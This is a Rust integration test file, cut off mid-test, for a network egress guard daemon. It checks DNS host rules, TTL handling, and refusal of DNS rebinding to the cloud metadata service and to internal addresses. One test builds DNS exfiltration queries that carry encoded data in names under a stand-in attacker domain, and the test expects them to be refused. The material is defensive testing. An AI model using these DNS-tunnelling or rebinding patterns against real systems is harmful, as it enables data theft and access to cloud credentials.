//! Host rules against a real DNS server (dnsmasq) on 127.0.0.1:53 inside the test
//! namespace: the daemon resolves exact names there, learns wildcard answers through its
//! proxy there, follows address and TTL changes, and refuses answers rebound to the
//! metadata service or internal addresses, reporting each.

use std::time::{Duration, Instant};

use mcp_guard_tests::{
    guard_bin, output_text, wait_until, Daemon, Dnsmasq, NetNs, Probe, TestCgroup,
};
use serde_json::Value;

const PROBE: &str = env!("CARGO_BIN_EXE_mcpg-probe");
const PROXY: &str = "127.0.0.1 5353";

const HOSTS: &str = "\
93.184.216.34 api.example.test
2606:4700::10 api.example.test
93.184.216.36 rebind.example.test
10.0.12.5 db.example.test
";

fn lab() -> NetNs {
    let ns = NetNs::new();
    for a in [
        "93.184.216.34",
        "93.184.216.35",
        "93.184.216.36",
        "151.101.1.10",
        "169.254.169.254",
        "10.0.12.5",
        "2606:4700::10",
        "fd00:ec2::254",
    ] {
        ns.add_addr(a);
    }
    for l in [
        "93.184.216.34:443",
        "93.184.216.35:443",
        "93.184.216.36:443",
        "151.101.1.10:443",
        "169.254.169.254:80",
        "10.0.12.5:443",
        "10.0.12.5:5432",
        "[2606:4700::10]:443",
        "[fd00:ec2::254]:80",
    ] {
        ns.listen_tcp(l);
    }
    ns
}

fn config(root: &str, ns: &NetNs) -> String {
    format!(
        r#"
[baseline]
deny = ["metadata"]

[[workload]]
name = "web-mcp"
cgroup = "{root}/web-mcp"
default = "deny"
[[workload.allow]]
host = "api.example.test"
ports = [443]
proto = "tcp"
[[workload.allow]]
host = "rebind.example.test"
ports = [80, 443]
[[workload.allow]]
host = "db.example.test"
ports = [5432]
[[workload.allow]]
host = "*.cdn.example.test"
ports = [443]

[[workload]]
name = "other-mcp"
cgroup = "{root}/other-mcp"
default = "deny"
[[workload.allow]]
host = "*.cdn.example.test"
ports = [443]

[dns]
nameservers = ["127.0.0.1:53"]
netns = "{netns}"
proxy = "127.0.0.1:5353"
min_ttl = 1
grace = 1

[daemon]
attach_cgroup = "{root}"
[events]
rate_limit_per_sec = 0
"#,
        netns = ns.path().display()
    )
}

/// The first line `mcp-guard events ARGS` prints (it follows forever: killed after).
fn first_event_line(d: &Daemon, args: &[&str]) -> String {
    use std::io::BufRead as _;
    let mut child = std::process::Command::new(guard_bin())
        .args(["events", "--socket", d.control.to_str().unwrap()])
        .args(args)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("mcp-guard events");
    let out = child.stdout.take().expect("stdout");
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut line = String::new();
        let _ = std::io::BufReader::new(out).read_line(&mut line);
        let _ = tx.send(line);
    });
    let line = rx.recv_timeout(Duration::from_secs(5)).unwrap_or_default();
    let _ = child.kill();
    let _ = child.wait();
    line
}

fn learned(d: &Daemon) -> Vec<Value> {
    let v: Value = serde_json::from_str(&d.get("/dns")).expect("/dns is JSON");
    v["learned"].as_array().cloned().unwrap_or_default()
}

fn has(d: &Daemon, workload: &str, name: &str, addr: &str) -> bool {
    learned(d)
        .iter()
        .any(|l| l["workload"] == workload && l["name"] == name && l["addr"] == addr)
}

fn metric(d: &Daemon, series: &str) -> f64 {
    d.get("/metrics")
        .lines()
        .find_map(|l| l.strip_prefix(series)?.trim().parse().ok())
        .unwrap_or(0.0)
}

/// Waits for a DNS refusal event for `name` and `dst` with `reason`.
fn refusal(d: &Daemon, seen: &mut Vec<Value>, name: &str, dst: &str, reason: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        seen.extend(d.events(Duration::from_millis(200)));
        if let Some(e) = seen.iter().find(|e| {
            e["hook"] == "dns" && e["name"] == name && e["dst"] == dst && e["reason"] == reason
        }) {
            mcp_guard_tests::assert_event_schema(e);
            return e.clone();
        }
        assert!(
            Instant::now() < deadline,
            "no {reason} event for {name} = {dst}; events: {seen:#?}"
        );
    }
}

/// The host-rule lab: dnsmasq with the test's names (TTL 2 s), two workloads, a daemon,
/// a probe in each workload.
struct Lab {
    web: Probe,
    other: Probe,
    d: Daemon,
    dnsmasq: Dnsmasq,
    cg: TestCgroup,
    ns: NetNs,
}

fn start() -> Lab {
    let ns = lab();
    let dnsmasq = Dnsmasq::start(
        &ns,
        HOSTS,
        &[
            "/cdn.example.test/151.101.1.10",
            "/evil.cdn.example.test/169.254.169.254",
        ],
        2,
    );
    let cg = TestCgroup::new();
    let (_, web_dir) = cg.child("web-mcp");
    let (_, other_dir) = cg.child("other-mcp");
    let d = Daemon::start(&config(&cg.rel, &ns));
    let web = Probe::new(PROBE, &web_dir, &ns);
    let other = Probe::new(PROBE, &other_dir, &ns);
    Lab {
        web,
        other,
        d,
        dnsmasq,
        cg,
        ns,
    }
}

/// Waits until `workload` has learned `addr` for `name`.
fn wait_learned(d: &Daemon, workload: &str, name: &str, addr: &str) {
    assert!(
        wait_until(Duration::from_secs(10), || has(d, workload, name, addr)),
        "{name} = {addr} never learned for {workload}: {}",
        d.get("/dns")
    );
}

#[test]
fn exact_names_are_learned_refused_and_explained() {
    let Lab {
        mut web,
        mut other,
        d,
        dnsmasq: _dnsmasq,
        cg: _cg,
        ns: _ns,
    } = start();
    let mut seen = Vec::new();
    // An exact name, resolved by the daemon: its address on its port, nothing else.
    wait_learned(&d, "web-mcp", "api.example.test", "93.184.216.34");
    assert_eq!(
        web.op("tcp 93.184.216.34 443"),
        "OK",
        "the allowed name's address"
    );
    assert_eq!(web.op("tcp 93.184.216.35 443"), "EPERM", "another address");
    // AAAA answers too; and the IPv4 answer through a dual-stack socket.
    wait_learned(&d, "web-mcp", "api.example.test", "2606:4700::10");
    assert_eq!(web.op("tcp 2606:4700::10 443"), "OK", "the AAAA answer");
    assert_eq!(web.op("tcp6-mapped 93.184.216.34 443"), "OK", "IPv4-mapped");
    assert_eq!(web.op("tcp 93.184.216.34 80"), "EPERM", "another port");
    assert_eq!(
        other.op("tcp 93.184.216.34 443"),
        "EPERM",
        "another workload"
    );
    // Each name is its own lookup: wait for this one's answer too.
    wait_learned(&d, "web-mcp", "rebind.example.test", "93.184.216.36");
    assert_eq!(
        web.op("tcp 93.184.216.36 443"),
        "OK",
        "rebind.example.test, still public"
    );

    // An internal answer for a rule without allow_internal: refused and reported.
    let e = refusal(
        &d,
        &mut seen,
        "db.example.test",
        "10.0.12.5",
        "rebound-internal",
    );
    assert_eq!(e["workload"], "web-mcp");
    assert_eq!(e["verdict"], "refused");
    assert_eq!(e["dns_source"], "resolver");
    assert_eq!(web.op("tcp 10.0.12.5 5432"), "EPERM");

    // explain names the name and the answer that allow an address.
    let out = std::process::Command::new(guard_bin())
        .args(["explain", "--config"])
        .arg(&d.config)
        .args(["--workload", "web-mcp", "93.184.216.34:443/tcp"])
        .output()
        .expect("explain");
    let text = output_text(&out);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("ALLOW"), "{text}");
    assert!(
        text.contains("host api.example.test: api.example.test = 93.184.216.34"),
        "{text}"
    );
    assert!(
        text.contains(
            "answer: api.example.test -> 93.184.216.34 (record TTL 2 s, from the resolver)"
        ),
        "{text}"
    );
    // By name: every address learned for it, each with its verdict.
    let out = std::process::Command::new(guard_bin())
        .args(["explain", "--config"])
        .arg(&d.config)
        .args(["--workload", "web-mcp", "API.example.test:80/tcp"])
        .output()
        .expect("explain");
    let text = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "DENY exits 1: {text}");
    assert!(
        text.contains("web-mcp -> 93.184.216.34 port 80/tcp: DENY (not-allowed)"),
        "{text}"
    );
    let out = std::process::Command::new(guard_bin())
        .args(["explain", "--config"])
        .arg(&d.config)
        .args(["--workload", "web-mcp", "never.example.test:443"])
        .output()
        .expect("explain");
    assert!(
        output_text(&out)
            .contains("never.example.test: DENY: no host rule of this workload matches the name"),
        "{}",
        output_text(&out)
    );

    assert!(d.stop(), "daemon exits cleanly");
}

#[test]
fn address_changes_and_rebinding_are_followed() {
    let Lab {
        mut web,
        other: _other,
        d,
        dnsmasq,
        cg: _cg,
        ns: _ns,
    } = start();
    let mut seen = Vec::new();
    wait_learned(&d, "web-mcp", "api.example.test", "93.184.216.34");
    wait_learned(&d, "web-mcp", "rebind.example.test", "93.184.216.36");
    assert_eq!(web.op("tcp 93.184.216.34 443"), "OK");
    assert_eq!(web.op("tcp 93.184.216.36 443"), "OK");

    // The address changes: the new one is allowed as soon as DNS says so, the old one
    // once its TTL (2 s) and grace (1 s) have run out.
    dnsmasq.set_hosts(&HOSTS.replace("93.184.216.34 api", "93.184.216.35 api"));
    wait_learned(&d, "web-mcp", "api.example.test", "93.184.216.35");
    assert_eq!(web.op("tcp 93.184.216.35 443"), "OK", "the new address");
    assert!(
        wait_until(Duration::from_secs(10), || web.op("tcp 93.184.216.34 443")
            == "EPERM"),
        "the old address stayed allowed: {}",
        d.get("/dns")
    );
    // /dns follows the kernel (it is updated right after each install).
    assert!(wait_until(Duration::from_secs(2), || !has(
        &d,
        "web-mcp",
        "api.example.test",
        "93.184.216.34"
    )));

    // Rebinding: the name moves to the metadata service, then to an internal database.
    dnsmasq.set_hosts(
        &HOSTS
            .replace("93.184.216.34 api", "93.184.216.35 api")
            .replace(
                "93.184.216.36 rebind",
                "169.254.169.254 rebind.example.test\nfd00:ec2::254 rebind",
            ),
    );
    refusal(
        &d,
        &mut seen,
        "rebind.example.test",
        "169.254.169.254",
        "rebound-metadata",
    );
    refusal(
        &d,
        &mut seen,
        "rebind.example.test",
        "fd00:ec2::254",
        "rebound-metadata",
    );
    assert_eq!(web.op("tcp 169.254.169.254 80"), "EPERM");
    assert_eq!(web.op("tcp fd00:ec2::254 80"), "EPERM");
    // `mcp-guard events` replays the refusal from the daemon's history, readable.
    let line = first_event_line(&d, &["--since", "5m", "--reason", "rebound-metadata"]);
    assert!(
        line.contains("REFUSED web-mcp DNS answer rebind.example.test = 169.254.169.254 via the resolver reason=rebound-metadata"),
        "{line}"
    );
    dnsmasq.set_hosts(
        &HOSTS
            .replace("93.184.216.34 api", "93.184.216.35 api")
            .replace("93.184.216.36 rebind", "10.0.12.5 rebind"),
    );
    refusal(
        &d,
        &mut seen,
        "rebind.example.test",
        "10.0.12.5",
        "rebound-internal",
    );
    assert_eq!(web.op("tcp 10.0.12.5 443"), "EPERM");
    assert!(
        wait_until(Duration::from_secs(10), || web.op("tcp 93.184.216.36 443")
            == "EPERM"),
        "the address before the rebinding outlived its TTL"
    );
    assert!(
        !learned(&d)
            .iter()
            .any(|l| l["addr"] == "169.254.169.254" || l["addr"] == "10.0.12.5"),
        "{}",
        d.get("/dns")
    );
    assert!(
        metric(
            &d,
            "mcp_guard_dns_refused_total{reason=\"rebound-metadata\",workload=\"web-mcp\"}"
        ) >= 1.0
    );
    assert!(
        metric(
            &d,
            "mcp_guard_dns_refused_total{reason=\"rebound-internal\",workload=\"web-mcp\"}"
        ) >= 2.0
    );

    assert!(d.stop(), "daemon exits cleanly");
}

#[test]
fn wildcards_are_learned_through_the_proxy_for_the_asking_workload() {
    let Lab {
        mut web,
        mut other,
        d,
        dnsmasq: _dnsmasq,
        cg: _cg,
        ns: _ns,
    } = start();
    let mut seen = Vec::new();
    // A wildcard, learned from the workload's own answer through the proxy: usable the
    // moment the answer arrives, and only by the workload that asked.
    assert_eq!(
        web.op("tcp 151.101.1.10 443"),
        "EPERM",
        "nothing learned yet"
    );
    assert_eq!(
        web.op(&format!("resolve-tcp x1.cdn.example.test {PROXY} 443")),
        "OK 151.101.1.10"
    );
    assert!(has(&d, "web-mcp", "x1.cdn.example.test", "151.101.1.10"));
    assert_eq!(
        other.op("tcp 151.101.1.10 443"),
        "EPERM",
        "learned for web-mcp only"
    );
    assert_eq!(
        other.op(&format!("tcp-resolve-tcp img.cdn.example.test {PROXY} 443")),
        "OK 151.101.1.10"
    );
    assert_eq!(
        web.op("tcp 151.101.1.10 80"),
        "EPERM",
        "the rule's ports only"
    );
    // A wildcard answer rebound to the metadata service stays unusable.
    assert_eq!(
        web.op(&format!("resolve-tcp a.evil.cdn.example.test {PROXY} 80")),
        "EPERM 169.254.169.254"
    );
    let e = refusal(
        &d,
        &mut seen,
        "a.evil.cdn.example.test",
        "169.254.169.254",
        "rebound-metadata",
    );
    assert_eq!(e["dns_source"], "proxy");
    assert_eq!(e["workload"], "web-mcp");
    // Asking the DNS server directly, around the proxy, is not allowed (default deny).
    assert_eq!(web.op("udp-sendto 127.0.0.1 53"), "EPERM");
    let learned_web = learned(&d);
    let l = learned_web
        .iter()
        .find(|l| l["name"] == "x1.cdn.example.test")
        .expect("wildcard answer listed");
    assert_eq!(l["source"], "proxy");

    assert!(d.stop(), "daemon exits cleanly");
}

#[test]
fn ttl_changes_and_reloads_are_followed() {
    let Lab {
        mut web,
        other: _other,
        d,
        mut dnsmasq,
        cg,
        ns,
    } = start();
    dnsmasq.set_hosts(&HOSTS.replace("93.184.216.34 api", "93.184.216.35 api"));
    wait_learned(&d, "web-mcp", "api.example.test", "93.184.216.35");

    // A TTL change is followed: with TTL 30 the daemon stops asking every second.
    dnsmasq.set_ttl(30);
    assert!(
        wait_until(Duration::from_secs(10), || learned(&d)
            .iter()
            .any(|l| l["name"] == "api.example.test" && l["ttl"] == 30)),
        "TTL 30 never seen: {}",
        d.get("/dns")
    );
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let l = learned(&d)
        .into_iter()
        .find(|l| l["name"] == "api.example.test")
        .unwrap();
    let left = l["expires_unix"].as_u64().unwrap().saturating_sub(now);
    assert!(
        (28..=32).contains(&left),
        "expires in {left} s, want TTL 30 + grace 1"
    );
    // Let lookups already due under the old TTL finish, then count for 3 seconds.
    std::thread::sleep(Duration::from_secs(3));
    let before = metric(&d, "mcp_guard_dns_lookups_total{result=\"answer\"}");
    std::thread::sleep(Duration::from_secs(3));
    let after = metric(&d, "mcp_guard_dns_lookups_total{result=\"answer\"}");
    assert_eq!(before, after, "lookups went on at the old TTL");
    assert_eq!(
        web.op("tcp 93.184.216.35 443"),
        "OK",
        "still allowed under TTL 30"
    );

    // A reload that drops the rule drops its addresses at once, TTL or not; a wildcard
    // answer learned (now with TTL 30) survives the reload.
    assert_eq!(
        web.op(&format!("resolve-tcp x2.cdn.example.test {PROXY} 443")),
        "OK 151.101.1.10"
    );
    d.write_config(&config(&cg.rel, &ns).replace(
        "host = \"api.example.test\"",
        "host = \"gone.example.test\"",
    ));
    assert!(
        wait_until(Duration::from_secs(10), || web.op("tcp 93.184.216.35 443")
            == "EPERM"),
        "the removed rule's address stayed allowed"
    );
    assert_eq!(
        web.op("tcp 151.101.1.10 443"),
        "OK",
        "learned answers survive a reload"
    );

    assert!(d.stop(), "daemon exits cleanly");
}

/// Kubernetes-like: the workload lives in a network namespace of its own (a pod) and
/// reaches the proxy over a veth; the proxy cannot see the pod's socket, so it knows the
/// workload by the pod's source address.
#[test]
fn proxy_learns_for_a_workload_in_another_namespace() {
    let node = NetNs::new();
    let pod = NetNs::new();
    node.veth("vnode", &pod, "vpod");
    node.ip("addr add 10.200.0.1/30 dev vnode");
    pod.ip("addr add 10.200.0.2/30 dev vpod");
    pod.add_addr("151.101.1.10");
    pod.listen_tcp("151.101.1.10:443");
    let _dnsmasq = Dnsmasq::start(&node, "", &["/cdn.example.test/151.101.1.10"], 60);
    let cg = TestCgroup::new();
    let (_, pod_dir) = cg.child("pod-mcp");
    let d = Daemon::start(&format!(
        r#"
[[workload]]
name = "pod-mcp"
cgroup = "{root}/pod-mcp"
default = "deny"
[[workload.allow]]
host = "*.cdn.example.test"
ports = [443]
[dns]
nameservers = ["127.0.0.1:53"]
netns = "{netns}"
proxy = "10.200.0.1:5353"
[daemon]
attach_cgroup = "{root}"
"#,
        root = cg.rel,
        netns = node.path().display()
    ));
    let mut probe = Probe::new(PROBE, &pod_dir, &pod);
    assert_eq!(
        probe.op("tcp 151.101.1.10 443"),
        "EPERM",
        "nothing learned yet"
    );
    assert_eq!(
        probe.op("resolve-tcp img.cdn.example.test 10.200.0.1 5353 443"),
        "OK 151.101.1.10"
    );
    assert!(
        has(&d, "pod-mcp", "img.cdn.example.test", "151.101.1.10"),
        "{}",
        d.get("/dns")
    );
    assert!(metric(&d, "mcp_guard_dns_proxy_queries_total{result=\"learned\"}") >= 1.0);

    // kill -9 and a new daemon: what was learned stays allowed (until it expires), with
    // no new lookup, and is still listed. (The learned set is written to disk off the
    // answer's path, a moment after it: the kill waits for that, or it would test the
    // documented loss of the newest answers.)
    let learned_file = mcp_guard::kernel::pins::Pins::new(&d.pin_dir).learned_file();
    assert!(
        wait_until(Duration::from_secs(5), || std::fs::read_to_string(
            &learned_file
        )
        .is_ok_and(|t| t.contains("151.101.1.10"))),
        "the learned set is kept on disk"
    );
    let mut d = d;
    d.kill9();
    d.restart();
    assert_eq!(
        probe.op("tcp 151.101.1.10 443"),
        "OK",
        "learned before the restart"
    );
    assert!(
        has(&d, "pod-mcp", "img.cdn.example.test", "151.101.1.10"),
        "{}",
        d.get("/dns")
    );
    assert_eq!(
        metric(&d, "mcp_guard_dns_proxy_queries_total{result=\"learned\"}"),
        0.0
    );
    assert!(d.stop());
}

/// The proxy as a policy point: against a real dnsmasq that logs every query it gets, a
/// `default = "deny"` workload cannot carry data out through names or types its rules do
/// not allow (UDP and TCP, A, AAAA, TXT): nothing of it reaches dnsmasq, the client gets
/// REFUSED, events and counters are exact. Allowed names (exact, wildcard, through a
/// CNAME) resolve and connect, answer TTLs are capped at what the policy allows, a client
/// that is no workload is refused, `resolve_any` forwards any name, and a flooding
/// workload does not stop another from resolving.
#[test]
fn proxy_refuses_what_no_host_rule_allows() {
    let ns = NetNs::new();
    for a in [
        "93.184.216.34",
        "151.101.1.10",
        "151.101.1.20",
        "9.9.9.9",
        "9.9.9.10",
    ] {
        ns.add_addr(a);
        ns.listen_tcp(&format!("{a}:443"));
    }
    // "Public" resolvers, for direct DNS around the proxy.
    ns.listen_tcp("9.9.9.9:853");
    ns.listen_tcp("9.9.9.9:53");
    let public_dns = ns.udp_counter("9.9.9.9:53");
    let listed_dns = ns.udp_counter("9.9.9.10:53");
    let dnsmasq = Dnsmasq::start_args(
        &ns,
        "93.184.216.34 api.example.test\n151.101.1.20 edge.othercdn.test\n",
        &[
            "--address=/cdn.example.test/151.101.1.10".into(),
            "--cname=www.example.test,edge.othercdn.test".into(),
        ],
        60,
    );
    let cg = TestCgroup::new();
    let (_, web_dir) = cg.child("web-mcp");
    let (_, flood_dir) = cg.child("flood-mcp");
    let (_, any_dir) = cg.child("any-mcp");
    let (_, stranger_dir) = cg.child("stranger");
    let (_, closed_dir) = cg.child("closed-mcp");
    let (_, open_dir) = cg.child("open-mcp");
    let d = Daemon::start(&format!(
        r#"
[[workload]]
name = "web-mcp"
cgroup = "{root}/web-mcp"
default = "deny"
[[workload.allow]]
host = "api.example.test"
ports = [443]
[[workload.allow]]
host = "*.cdn.example.test"
ports = [443]
[[workload.allow]]
host = "www.example.test"
ports = [443]

[[workload]]
name = "flood-mcp"
cgroup = "{root}/flood-mcp"
default = "deny"
[[workload.allow]]
host = "*.cdn.example.test"
ports = [443]

[[workload]]
name = "any-mcp"
cgroup = "{root}/any-mcp"
default = "deny"
resolve_any = true

[[workload]]
name = "closed-mcp"
cgroup = "{root}/closed-mcp"
default = "deny-internal"
deny_direct_dns = true
[[workload.allow]]
cidr = "9.9.9.10"
ports = [53]

[[workload]]
name = "open-mcp"
cgroup = "{root}/open-mcp"
default = "deny-internal"

[dns]
nameservers = ["127.0.0.1:53"]
netns = "{netns}"
proxy = "127.0.0.1:5353"
min_ttl = 1
max_ttl = 10
grace = 1
workload_queries_per_sec = 20
workload_in_flight = 8

[daemon]
attach_cgroup = "{root}"
[events]
rate_limit_per_sec = 0
"#,
        root = cg.rel,
        netns = ns.path().display()
    ));
    let mut web = Probe::new(PROBE, &web_dir, &ns);
    let ask = |p: &mut Probe, name: &str, ty: &str, proto: &str| {
        p.op(&format!("dns {name} {ty} {PROXY} {proto}"))
    };
    let refused = "RCODE=5 ADDR=- TTL=- ANSWERS=0";

    // A wildcard name: answered, its TTL (60 at dnsmasq) capped at max_ttl = 10, usable.
    let r = ask(&mut web, "x1.cdn.example.test", "A", "udp");
    assert!(r.starts_with("RCODE=0 ADDR=151.101.1.10 TTL="), "{r}");
    let ttl: u32 = r
        .split("TTL=")
        .nth(1)
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!(
        (1..=10).contains(&ttl),
        "answer TTL {ttl} above max_ttl: {r}"
    );
    assert_eq!(web.op("tcp 151.101.1.10 443"), "OK");
    let r = ask(&mut web, "api.example.test", "A", "tcp");
    assert!(r.starts_with("RCODE=0 ADDR=93.184.216.34 TTL="), "{r}");

    // Exfiltration attempts: names no rule covers, over UDP and TCP, as A, AAAA, TXT.
    let mut sent = 0;
    for proto in ["udp", "tcp"] {
        for ty in ["A", "AAAA", "TXT"] {
            let name = format!("c2VjcmV0LTQy-{proto}-{ty}.attacker.test").to_lowercase();
            assert_eq!(
                ask(&mut web, &name, ty, proto),
                refused,
                "{name} {ty}/{proto}"
            );
            sent += 1;
        }
    }
    // Allowed names, but types that carry data: refused too.
    for ty in ["TXT", "ANY", "MX"] {
        let r = ask(&mut web, "api.example.test", ty, "udp");
        assert_eq!(r, refused, "{ty} for an allowed name");
    }
    // A CNAME target is not allowed on its own, only once an allowed name led to it.
    assert_eq!(ask(&mut web, "edge.othercdn.test", "A", "udp"), refused);
    let r = ask(&mut web, "www.example.test", "A", "udp");
    assert!(
        r.starts_with("RCODE=0 ADDR=151.101.1.20"),
        "CNAME chain: {r}"
    );
    assert_eq!(
        web.op("tcp 151.101.1.20 443"),
        "OK",
        "the CNAME target's address"
    );
    let r = ask(&mut web, "edge.othercdn.test", "A", "udp");
    assert!(
        r.starts_with("RCODE=0 ADDR=151.101.1.20"),
        "reached through the CNAME: {r}"
    );

    // A client that is no workload gets nothing upstream.
    let mut stranger = Probe::new(PROBE, &stranger_dir, &ns);
    assert_eq!(ask(&mut stranger, "api.example.test", "A", "udp"), refused);
    assert_eq!(ask(&mut stranger, "api.example.test", "A", "tcp"), refused);

    // resolve_any: any name goes upstream; still only address types.
    let mut any = Probe::new(PROBE, &any_dir, &ns);
    let r = ask(&mut any, "whatever.any.test", "A", "udp");
    assert!(!r.starts_with("QUERY"), "{r}");
    assert_eq!(ask(&mut any, "whatever.any.test", "TXT", "udp"), refused);

    // Nothing refused reached dnsmasq; what was allowed did.
    let queries = dnsmasq.queries();
    let leaked: Vec<&String> = queries
        .iter()
        .filter(|q| {
            q.contains("attacker")
                || q.contains("query[TXT]")
                || q.contains("query[MX]")
                || q.contains("query[ANY]")
        })
        .collect();
    assert!(
        leaked.is_empty(),
        "refused queries reached dnsmasq: {leaked:#?}"
    );
    for want in [
        "x1.cdn.example.test",
        "www.example.test",
        "whatever.any.test",
    ] {
        assert!(
            queries.iter().any(|q| q.contains(want)),
            "{want} never asked: {queries:#?}"
        );
    }
    assert_eq!(
        queries
            .iter()
            .filter(|q| q.contains("query[A] edge.othercdn.test"))
            .count(),
        1,
        "only the question after the CNAME: {queries:#?}"
    );

    // Exact events and counters.
    let mut events = Vec::new();
    let want = |reason: &str, workload: Option<&str>| -> usize {
        match (reason, workload) {
            ("name-not-allowed", Some("web-mcp")) => sent + 1,
            ("type-not-allowed", Some("web-mcp")) => 3,
            ("type-not-allowed", Some("any-mcp")) => 1,
            ("unattributed", None) => 2,
            _ => 0,
        }
    };
    let cases = [
        ("name-not-allowed", Some("web-mcp")),
        ("type-not-allowed", Some("web-mcp")),
        ("type-not-allowed", Some("any-mcp")),
        ("unattributed", None),
    ];
    let count = |events: &[Value], reason: &str, workload: Option<&str>| {
        events
            .iter()
            .filter(|e| {
                e["hook"] == "dns"
                    && e["reason"] == reason
                    && e.get("dns_type").is_some()
                    && e["workload"].as_str() == workload
            })
            .count()
    };
    let deadline = Instant::now() + Duration::from_secs(10);
    while cases
        .iter()
        .any(|(r, w)| count(&events, r, *w) < want(r, *w))
        && Instant::now() < deadline
    {
        events.extend(d.events(Duration::from_millis(200)));
    }
    events.extend(d.events(Duration::from_millis(300)));
    for (r, w) in cases {
        assert_eq!(
            count(&events, r, w),
            want(r, w),
            "{r} events for {w:?}: {events:#?}"
        );
        let series = format!(
            "mcp_guard_dns_query_refused_total{{reason=\"{r}\",workload=\"{}\"}}",
            w.unwrap_or("")
        );
        assert_eq!(metric(&d, &series), want(r, w) as f64, "{series}");
    }
    let e = events
        .iter()
        .find(|e| e["reason"] == "name-not-allowed" && e["dns_type"] == "TXT")
        .expect("a TXT exfiltration event");
    mcp_guard_tests::assert_event_schema(e);
    assert_eq!(e["verdict"], "refused");
    assert_eq!(e["dns_source"], "proxy");
    assert!(
        e["name"].as_str().unwrap().ends_with(".attacker.test"),
        "{e:#}"
    );
    let line = first_event_line(&d, &["--since", "5m", "--reason", "name-not-allowed"]);
    assert!(
        line.contains(
            "REFUSED web-mcp DNS query c2vjcmv0ltqy-udp-a.attacker.test A from 127.0.0.1:"
        ),
        "{line}"
    );

    // Direct DNS: a deny-internal workload reaches a public resolver around the proxy
    // (documented), unless deny_direct_dns: then DNS and DNS over TLS go only where an
    // allow rule says (the proxy always), while the rest of its public traffic flows.
    let mut open = Probe::new(PROBE, &open_dir, &ns);
    assert_eq!(
        open.op("udp-sendto 9.9.9.9 53"),
        "OK",
        "deny-internal allows public DNS"
    );
    assert!(wait_until(Duration::from_secs(2), || public_dns
        .load(std::sync::atomic::Ordering::SeqCst)
        == 1));
    let mut closed = Probe::new(PROBE, &closed_dir, &ns);
    for op in [
        "udp-sendto 9.9.9.9 53",
        "udp-connect 9.9.9.9 53",
        "tcp 9.9.9.9 53",
        "tcp 9.9.9.9 853",
        "tcp6-mapped 9.9.9.9 53",
    ] {
        assert_eq!(closed.op(op), "EPERM", "deny_direct_dns: {op}");
    }
    assert_eq!(closed.op("tcp 9.9.9.9 443"), "OK", "other public traffic");
    assert_eq!(
        closed.op("udp-sendto 9.9.9.10 53"),
        "OK",
        "a resolver an allow rule names"
    );
    let r = ask(&mut closed, "api.example.test", "A", "udp");
    assert_eq!(r, refused, "the proxy still filters: no host rule");
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(
        public_dns.load(std::sync::atomic::Ordering::SeqCst),
        1,
        "only the open workload's datagram arrived"
    );
    assert_eq!(listed_dns.load(std::sync::atomic::Ordering::SeqCst), 1);

    // Fairness: one workload floods (600 allowed names at once, 20 per second allowed);
    // another resolves meanwhile.
    let mut flood = Probe::new(PROBE, &flood_dir, &ns);
    let flooding =
        std::thread::spawn(move || flood.op(&format!("dns-flood 600 f cdn.example.test {PROXY}")));
    std::thread::sleep(Duration::from_millis(100));
    let r = ask(&mut web, "x2.cdn.example.test", "A", "udp");
    assert!(
        r.starts_with("RCODE=0 ADDR=151.101.1.10"),
        "starved by another workload: {r}"
    );
    let flooded = flooding.join().expect("flood");
    assert!(flooded.starts_with("SENT 600 ANSWERED"), "{flooded}");
    let limited = metric(
        &d,
        "mcp_guard_dns_query_refused_total{reason=\"rate-limited\",workload=\"flood-mcp\"}",
    ) + metric(
        &d,
        "mcp_guard_dns_query_refused_total{reason=\"in-flight-limited\",workload=\"flood-mcp\"}",
    );
    // What the flooder got back REFUSED is exactly what was counted (the kernel drops
    // some of 600 datagrams sent at once from the proxy's socket buffer: never answered).
    let refused_back: f64 = flooded
        .split([' ', ','])
        .find_map(|p| p.strip_prefix("5:"))
        .map_or(0.0, |n| n.trim().parse().unwrap());
    assert!(refused_back >= 100.0, "flood not limited: {flooded}");
    assert_eq!(limited, refused_back, "{flooded}");
    assert_eq!(
        metric(
            &d,
            "mcp_guard_dns_query_refused_total{reason=\"rate-limited\",workload=\"web-mcp\"}"
        ),
        0.0
    );
    assert!(d.stop(), "daemon exits cleanly");
}

/// Learned answers expire in the kernel: the expiry is stored with the entry and compared
/// against the kernel clock by the programs, so an address whose TTL and grace ran out
/// is refused while the daemon is dead (kill -9); a restarted daemon adopts the pinned
/// state and learns the name again.
#[test]
fn learned_answers_expire_while_the_daemon_is_down() {
    let ns = lab();
    let _dnsmasq = Dnsmasq::start(&ns, HOSTS, &[], 1);
    let cg = TestCgroup::new();
    let (_, web_dir) = cg.child("web-mcp");
    cg.child("other-mcp");
    let config = config(&cg.rel, &ns).replace("[daemon]\n", "[daemon]\non_exit = \"keep\"\n");
    let mut d = Daemon::start(&config);
    let mut web = Probe::new(PROBE, &web_dir, &ns);
    wait_learned(&d, "web-mcp", "api.example.test", "93.184.216.34");
    assert_eq!(web.op("tcp 93.184.216.34 443"), "OK", "learned, allowed");
    // While the daemon runs, each renewed answer reaches the kernel's expiry too: the
    // address stays allowed well past its first TTL plus grace (2 s).
    for _ in 0..6 {
        std::thread::sleep(Duration::from_secs(1));
        assert_eq!(
            web.op("tcp 93.184.216.34 443"),
            "OK",
            "a renewed answer expired in the kernel"
        );
    }
    let expires = learned(&d)
        .into_iter()
        .filter(|l| l["name"] == "api.example.test")
        .filter_map(|l| l["expires_unix"].as_u64())
        .max()
        .expect("expiry listed");

    d.kill9();
    // Past TTL (1 s) plus grace (1 s) of the last answer the daemon saw, plus a margin.
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    std::thread::sleep(Duration::from_secs(expires.saturating_sub(now) + 2));
    assert_eq!(
        web.op("tcp 93.184.216.34 443"),
        "EPERM",
        "an expired answer must be refused with no daemon running"
    );
    assert_eq!(
        web.op("tcp 169.254.169.254 80"),
        "EPERM",
        "the rest of the pinned policy still holds"
    );

    d.restart();
    assert!(
        d.stderr
            .lock()
            .unwrap()
            .contains("adopted pinned state from a previous daemon"),
        "restart adopts the pins"
    );
